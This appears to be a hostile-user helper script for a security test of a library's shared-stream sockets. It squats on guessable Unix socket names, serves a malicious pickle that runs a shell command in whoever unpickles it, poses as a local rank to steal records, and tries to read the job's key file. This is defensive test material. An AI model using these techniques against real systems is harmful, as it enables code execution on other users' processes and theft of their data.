"""Another local user attacking the shared stream, for tests/adapters/test_shared_stream_hostile.py.

Runs as uid 65534 (``setpriv``) inside the test's private network namespace, with the standard
library only (it cannot read the job's interpreter or its files). What it does, until PUB/stop
appears (or 120 s):

- binds every name it can guess for the job's later epochs: the names streamio used to derive
  from public facts (uid, the channel's path, the epoch, MASTER_ADDR/MASTER_PORT), the next
  epoch of every ``streamio-<token>-<epoch>`` name it sees, and the names listed in PUB/plant;
  whoever connects gets a pickle that would run ``id > PUB/pwned``, or records of its own;
- watches ``/proc/net/unix`` and connects to every streamio socket, saying hello as a local rank
  (the old layout and the new one) and asking for records;
- tries to read the job's key (KEY_PATH).

usage: shared_hostile.py PUB CHANNEL_PREFIX MASTER_ADDR MASTER_PORT INJECT_FILE KEY_PATH
Writes PUB/ready once its names are bound, PUB/report.json at the end.
"""

import hashlib
import json
import os
import pickle
import re
import socket
import struct
import sys
import threading
import time

PUB, PREFIX, MASTER_ADDR, MASTER_PORT, INJECT, KEY = sys.argv[1:7]
HEADER = struct.Struct("<BxxxIQ")
HELLO_MAGIC = b"sio\x02"  # the hello of streamio's shared-stream wire (sharing/_wire.py)
report = {"bound": [], "seen": [], "connected": 0, "records_received": 0, "answered": 0,
          "victims": 0, "key_readable": None, "errors": []}
lock = threading.Lock()


class Payload:
    """Unpickling this runs ``id > PUB/pwned`` in whoever unpickles it."""

    def __reduce__(self):
        return (os.system, (f"id > {os.path.join(PUB, 'pwned')}",))


def old_shared_name(epoch):
    parts = ["uid=0", f"epoch={epoch}", "channel:" + os.path.realpath(PREFIX),
             f"MASTER_ADDR={MASTER_ADDR}", f"MASTER_PORT={MASTER_PORT}"]
    digest = hashlib.sha256("\n".join(parts).encode()).hexdigest()
    return f"\0streamio-shared-{digest[:32]}-{epoch}"


def encode_block(records, first_id):
    name = b"evil"
    ids = struct.pack(f"<{len(records)}q", *range(first_id, first_id + len(records)))
    lengths = struct.pack(f"<{len(records)}Q", *map(len, records))
    payload = struct.pack("<I", len(name)) + name + ids + lengths + b"".join(records)
    return HEADER.pack(1, len(records), len(payload)) + payload


def answer(conn, turn, records):
    """Speak to a process that connected to one of our names: a pickle, or records of ours."""
    with conn:
        conn.settimeout(5)
        try:
            conn.recv(64)  # its hello
            if turn % 2 == 0:
                evil = pickle.dumps(Payload())
                conn.sendall(HEADER.pack(3, 0, len(evil)) + evil)
                text = json.dumps({"type": "SourceError", "message": "x", "fields": {},
                                   "rank": 0, "worker": 0}).encode()
                conn.sendall(HEADER.pack(3, 0, len(text)) + text)
            else:
                conn.sendall(encode_block(records, 1 << 40) + HEADER.pack(2, 0, 0))
            time.sleep(1)
        except OSError as exc:
            with lock:
                report["errors"].append(f"answer: {exc!r}")


def squat(name, records):
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        sock.bind(name)
    except OSError as exc:
        report["errors"].append(f"bind {name[1:]!r}: {exc!r}")
        sock.close()
        return
    sock.listen(64)
    report["bound"].append(name[1:])

    def serve():
        turn = 0
        while True:
            conn, _ = sock.accept()
            with lock:
                report["victims"] += 1
            threading.Thread(target=answer, args=(conn, turn, records), daemon=True).start()
            turn += 1

    threading.Thread(target=serve, daemon=True).start()


def steal(name):
    """Connect to a streamio socket as a local rank and ask for records (two layouts)."""
    hellos = [struct.pack("<IIII", 1, 0, 2, 2), struct.pack("<IIII", 0, 1, 2, 1),
              HELLO_MAGIC + struct.pack("<IIIII", 1, 1, 2, 2, 0),
              HELLO_MAGIC + struct.pack("<IIIII", 0, 1, 2, 1, 0)]
    for hello in hellos:
        got = bytearray()
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
                sock.settimeout(3)
                sock.connect(name)
                with lock:
                    report["connected"] += 1
                sock.sendall(hello + b"W" * 64)
                while True:
                    chunk = sock.recv(1 << 16)
                    if not chunk:
                        break
                    got += chunk
        except OSError:
            pass
        pos = 0
        while pos + HEADER.size <= len(got):
            kind, count, size = HEADER.unpack_from(got, pos)
            if kind == 1:
                with lock:
                    report["records_received"] += count
            pos += HEADER.size + size


def watch(records):
    attacked = set()
    mine = set(report["bound"])
    while not os.path.exists(os.path.join(PUB, "stop")):
        with open("/proc/net/unix") as table:
            names = [line.split()[-1] for line in table.readlines()[1:] if len(line.split()) > 7]
        for name in names:
            if not name.startswith("@streamio") or name[1:] in mine or name in attacked:
                continue
            attacked.add(name)
            with lock:
                report["seen"].append(name[1:])
            threading.Thread(target=steal, args=("\0" + name[1:],), daemon=True).start()
            match = re.fullmatch(r"@(streamio-.*-)(\d+)", name)
            if match:  # the next epoch of a name with the epoch in clear
                following = "\0" + match.group(1) + str(int(match.group(2)) + 1)
                squat(following, records)
                mine.add(following[1:])
        time.sleep(0.01)


def main():
    records = [bytes.fromhex(line) for line in open(INJECT).read().split()]
    for epoch in range(1, 4):
        squat(old_shared_name(epoch), records)
    plant = os.path.join(PUB, "plant")
    if os.path.exists(plant):
        for name in open(plant).read().split():
            squat("\0" + name, records)
    try:
        with open(KEY, "rb") as f:
            report["key_readable"] = len(f.read()) > 0
    except OSError as exc:
        report["key_readable"] = False
        report["errors"].append(f"key: {exc!r}")
    open(os.path.join(PUB, "ready"), "w").close()
    worker = threading.Thread(target=watch, args=(records,), daemon=True)
    worker.start()
    worker.join(timeout=120)
    time.sleep(0.5)
    with lock:
        text = json.dumps(report)
    with open(os.path.join(PUB, "report.json.tmp"), "w") as f:
        f.write(text)
    os.replace(os.path.join(PUB, "report.json.tmp"), os.path.join(PUB, "report.json"))


if __name__ == "__main__":
    main()
